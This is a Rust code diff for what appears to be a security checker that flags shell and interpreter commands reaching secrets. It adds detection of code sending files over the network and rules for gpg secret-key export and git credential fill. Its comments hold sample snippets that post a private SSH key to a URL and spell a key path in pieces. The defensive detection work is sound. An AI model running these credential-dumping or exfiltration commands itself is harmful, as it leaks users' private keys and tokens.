@@ -89,7 +89,7 @@ impl Walk<'_> {
             }
         }
         if let Role::Interpreter(_) = programs::role(name) {
-            self.spelt_in_code(&call.args, io, dirs);
+            self.spelt_in_code(name, &call.args, io, dirs);
         }
         if NAMES_ONLY.contains(&name) {
             return sends;
@@ -373,13 +373,21 @@ impl Walk<'_> {
     /// Interpreter code whose string pieces, joined, spell gitvow's secrets or its directory
     /// (`open('/h/.git' + 'vow/rec' + 'ord.key')`): what the rules cannot see in the text.
     /// Also code that reaches them by a pattern or a listing of the home ([`super::code_secrets`]).
-    pub(super) fn spelt_in_code(&mut self, args: &[String], io: &Io, dirs: &Dirs) {
+    /// Code that sends over the network and names files (`requests.post(URL,
+    /// data=(Path.home()/'.ssh/id_ed25519').read_bytes())`) is a text `send-from-code PROG NAME…`,
+    /// for the rules that say which files are credentials.
+    pub(super) fn spelt_in_code(&mut self, name: &str, args: &[String], io: &Io, dirs: &Dirs) {
         let fed = match io.feed {
             Feed::Text(t) | Feed::Expanding(t) => Some(t.as_str()),
             _ => None,
         };
         for code in args.iter().map(String::as_str).chain(io.heredocs.iter().map(String::as_str)).chain(fed) {
             self.secrets_in_code(code, dirs);
+            let sent = super::code_secrets::sent_names(code);
+            if !sent.is_empty() {
+                let words: Vec<String> = std::iter::once(name.to_string()).chain(sent.into_iter().map(str::to_string)).collect();
+                self.out.texts.push(super::text("send-from-code", &words));
+            }
         }
     }
 
@@ -582,6 +590,9 @@ fn secret_printed(name: &str, args: &[String]) -> Option<&'static str> {
         ("aws", ["configure", "export-credentials" | "get", ..]) | ("aws", ["sts", "get-session-token", ..]) => Some("~/.aws/credentials"),
         ("az", ["account", "get-access-token", ..]) => Some("~/.azure/msal_token_cache.json"),
         ("kubectl", ["config", "view", ..]) if has("--raw") => Some("~/.kube/config"),
+        // `gpg --export-secret-keys`, `gpg2 -a --export-secret-subkeys ID`: the private keyring.
+        ("gpg" | "gpg2", _) if args.iter().any(|a| a.starts_with("--export-secret-")) => Some("~/.gnupg/private-keys-v1.d"),
+        ("git", ["credential", "fill", ..]) => Some("~/.git-credentials"),
         _ => None,
     }
 }
